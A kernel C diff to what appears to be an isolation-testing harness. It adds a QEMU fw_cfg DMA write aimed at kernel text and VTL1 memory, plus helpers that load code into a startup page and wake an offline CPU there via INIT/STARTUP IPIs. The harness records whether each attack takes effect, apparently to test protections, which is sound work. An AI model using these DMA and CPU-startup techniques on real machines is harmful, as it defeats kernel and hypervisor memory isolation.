@@ -24,29 +24,42 @@ struct fw_cfg_access {
 	__be64 address;
 };
 
+#define FW_CFG_SIZE 4
+
 static unsigned long firmware_at;
 
-/* The firmware's configuration device writes its signature, "QEMU", over kernel text. */
+/* The firmware's configuration device writes its signature, "QEMU". Return: 0 when it says that it did */
+static int firmware_write(u64 to)
+{
+	struct fw_cfg_access *access = (void *)get_zeroed_page(GFP_KERNEL | GFP_DMA32);
+	u64 pa = access ? __pa(access) : 0;
+	bool done;
+
+	if (!access)
+		return -ENOMEM;
+	access->control = cpu_to_be32(FW_CFG_SIGNATURE << 16 | FW_CFG_SELECT_ITEM | FW_CFG_READ);
+	access->length = cpu_to_be32(FW_CFG_SIZE);
+	access->address = cpu_to_be64(to);
+	/* The upper half is 0 as long as nobody writes it. */
+	outl((__force u32)cpu_to_be32(pa), FW_CFG_DMA + 4);
+	done = !READ_ONCE(access->control);
+	free_page((unsigned long)access);
+	return done ? 0 : -EIO;
+}
+
 static int firmware_run(const struct attack *attack, struct result *result)
 {
-	struct fw_cfg_access *access = (void *)get_zeroed_page(GFP_KERNEL);
 	unsigned long end = target_text();
-	u64 pa = access ? __pa(access) : 0;
-	u8 before[4];
+	u8 before[FW_CFG_SIZE];
 
-	if (!access || !end)
-		return -ENOMEM;
+	if (!end)
+		return -ENOENT;
 	/* The last of a run of four. */
 	firmware_at = end - 3;
 	memcpy(before, (void *)firmware_at, sizeof(before));
 	result->address = physical(firmware_at);
-	access->control = cpu_to_be32(FW_CFG_SIGNATURE << 16 | FW_CFG_SELECT_ITEM | FW_CFG_READ);
-	access->length = cpu_to_be32(sizeof(before));
-	access->address = cpu_to_be64(result->address);
-	outl((__force u32)cpu_to_be32(pa >> 32), FW_CFG_DMA);
-	outl((__force u32)cpu_to_be32(pa), FW_CFG_DMA + 4);
+	firmware_write(result->address);
 	result->effect = !!memcmp(before, (void *)firmware_at, sizeof(before));
-	free_page((unsigned long)access);
 	return 0;
 }
 
@@ -56,6 +69,16 @@ static void firmware_undo(const struct attack *attack)
 
 	for (i = 0; i < 4; i++)
 		write_by_vmap(firmware_at + i, 0xcc);
+}
+
+/* The same over VTL1's memory. */
+static int firmware_vtl1_run(const struct attack *attack, struct result *result)
+{
+	if (!argument())
+		return -ENOENT;
+	result->address = argument();
+	result->effect = !firmware_write(argument());
+	return 0;
 }
 
 /* Memory that is not the kernel's, by a mapping of the attacker's own. */
@@ -97,6 +120,7 @@ static int write_run(const struct attack *attack, struct result *result)
  */
 #define START_PAGE 0x20000
 #define FLAG 0x800
+#define START_TELLS 7 /* the first bytes of */
 static const u8 start_code[] = {
 	0xfa, /* cli */
 	0x2e, 0xc6, 0x06, 0x00, 0x08, 0x01, /* movb $1, %cs:FLAG */
@@ -112,13 +136,18 @@ u64 start_page_prepare(void)
 	return START_PAGE;
 }
 
+void start_page_go_on(const u8 *code, unsigned int n)
+{
+	memcpy((u8 *)__va(START_PAGE) + START_TELLS, code, n);
+}
+
 bool start_page_ran(void)
 {
 	mdelay(50);
 	return READ_ONCE(((u8 *)__va(START_PAGE))[FLAG]);
 }
 
-static int send(u32 what, u32 apic_id)
+int send_ipi(u32 what, u32 apic_id)
 {
 	struct apic **apic = pointer("apic");
 
@@ -131,7 +160,7 @@ static int send(u32 what, u32 apic_id)
 
 int send_init(u32 apic_id)
 {
-	return send(APIC_INT_LEVELTRIG | APIC_INT_ASSERT | APIC_DM_INIT, apic_id);
+	return send_ipi(APIC_INT_LEVELTRIG | APIC_INT_ASSERT | APIC_DM_INIT, apic_id);
 }
 
 /* The second CPU, which is offline, starts in the attacker's code. */
@@ -141,7 +170,7 @@ static int start_run(const struct attack *attack, struct result *result)
 	int error = send_init(1);
 
 	if (!error)
-		error = send(APIC_DM_STARTUP | page >> PAGE_SHIFT, 1);
+		error = send_ipi(APIC_DM_STARTUP | page >> PAGE_SHIFT, 1);
 	result->address = 1;
 	result->effect = start_page_ran();
 	return error;
@@ -149,6 +178,7 @@ static int start_run(const struct attack *attack, struct result *result)
 
 const struct attack machine_attacks[] = {
 	{ "firmware-dma", firmware_run, firmware_undo, NULL },
+	{ "firmware-dma-vtl1", firmware_vtl1_run, NULL, NULL },
 	{ "vtl1-read", read_run, NULL, NULL },
 	{ "vtl1-write", write_run, NULL, NULL },
 	{ "hypervisor-read", read_run, NULL, NULL },
